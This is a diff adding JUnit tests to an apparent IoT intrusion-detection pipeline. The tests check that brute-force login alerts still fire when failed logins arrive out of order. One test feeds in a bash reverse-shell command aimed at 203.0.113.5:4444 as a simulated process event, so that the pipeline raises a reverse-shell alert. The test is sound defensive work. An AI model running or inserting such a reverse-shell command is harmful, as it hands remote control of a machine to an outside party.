@@ -64,6 +64,27 @@ class DetectionPipelineTest {
     }
 
     @Test
+    void failuresSplitAcrossMessagesThatArriveOutOfOrderStillCount() {
+        Instant start = Instant.now().minusSeconds(400);
+        List<FeedEvent> failures = logins(start, 8, Duration.ofSeconds(5), "Fail", i -> "203.0.113.77");
+        List<FeedEvent> success = logins(start.plusSeconds(50), 1, Duration.ZERO, "Success", i -> "203.0.113.77");
+        publish("bf-split", success);
+        publish("bf-split", failures.subList(4, 8));
+        publish("bf-split", failures.subList(0, 4));
+        awaitAlert("bf-split", "IoT_Bruteforce_Fail");
+        awaitAlert("bf-split", "IoT_Bruteforce_Success");
+    }
+
+    @Test
+    void aRemoteLoginWithoutFailuresIsNothing() {
+        publish("login-ok", logins(Instant.now().minusSeconds(30), 1, Duration.ZERO, "Success", i -> "198.51.100.80"));
+        publish("login-ok", List.of(process(Instant.now().minusSeconds(20), "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")));
+        awaitAlert("login-ok", "IoT_ReverseShell");
+        assertThat(TestDatabase.count("SELECT count(*) FROM workspace.security_alert WHERE device_id = 'login-ok'"
+                + " AND alert_type LIKE 'IoT_Bruteforce%'")).isZero();
+    }
+
+    @Test
     void sevenFailuresSpreadOutOrFromManyAddressesAreNot() {
         Instant start = Instant.now().minusSeconds(3600);
         publish("bf-7", logins(start, 7, Duration.ofSeconds(10), "Fail", i -> "203.0.113.10"));
